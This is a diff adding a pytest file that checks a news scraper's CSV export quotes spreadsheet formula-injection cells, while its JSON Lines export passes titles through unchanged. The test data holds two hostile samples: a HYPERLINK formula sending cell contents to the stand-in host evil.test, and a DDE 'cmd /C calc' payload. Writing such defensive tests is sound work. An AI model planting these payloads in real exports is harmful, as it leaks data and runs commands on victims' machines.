@@ -1,0 +1,73 @@
+"""``export_articles`` on a real SQLite store: what each format writes of hostile or bad records."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import time
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+
+from scraper.export import ExportFormat, Since, export_articles
+from scraper.models import Article, Block, BlockKind
+from scraper.store.crawl_store import SQLiteCrawlStore
+from scraper.store.protocol import FetchRecord, ListingRecord, NewArticle, NewURL
+
+
+def _filled(path: Path, articles: Sequence[Article]) -> SQLiteCrawlStore:
+    """A store holding ``articles``, one URL each, in order (ids 1, 2, ...)."""
+    store = SQLiteCrawlStore(path)
+    store.ensure_source("src", "feed")
+    urls = [
+        NewURL(url=f"https://n.test/{i}", raw=f"https://n.test/{i}") for i in range(len(articles))
+    ]
+    store.record_listing("src", ListingRecord(fetch=None, entries=urls), 1)
+    queued = store.due_urls(time.time(), 0, len(articles))
+    store.store_articles(
+        [
+            NewArticle(
+                queued=q,
+                fetch=FetchRecord(url=q.url, status=200),
+                record=json.dumps(article.to_dict()),
+                cluster=f"c{q.id}",
+                duplicate_of=None,
+                canonical=None,
+                key=q.url,
+                stored_at=time.time(),
+            )
+            for q, article in zip(queued, articles, strict=True)
+        ],
+        1,
+    )
+    return store
+
+
+def _article(title: str, text: str = "A paragraph of the story.") -> Article:
+    return Article.build(blocks=(Block(BlockKind.PARAGRAPH, text),), title=title)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(
+    tmp_path: Path, start: str
+) -> None:
+    title = f'{start}HYPERLINK("http://evil.test/?x="&A1,"click")'
+    text = f"{start}cmd|' /C calc'!A0 is how the story begins."
+    store = _filled(
+        tmp_path / "news.db",
+        [_article(title, text), _article("A plain title", "One line\rand a bare CR.")],
+    )
+    out = io.StringIO()
+    export_articles(store, since=Since(), fmt=ExportFormat.CSV, stream=out)
+    hostile, plain = csv.DictReader(io.StringIO(out.getvalue()))
+    assert hostile["title"] == "'" + title
+    assert hostile["text"] == "'" + text
+    assert plain["title"] == "A plain title"
+    assert plain["source"] == "src"
+    assert plain["text"] == "One line\rand a bare CR."  # quoted: the row stays one row
+    # Only CSV is neutralised: JSON Lines hands the title on as the site served it.
+    lines = io.StringIO()
+    export_articles(store, since=Since(), fmt=ExportFormat.JSONL, stream=lines)
+    assert json.loads(lines.getvalue().splitlines()[0])["title"] == title
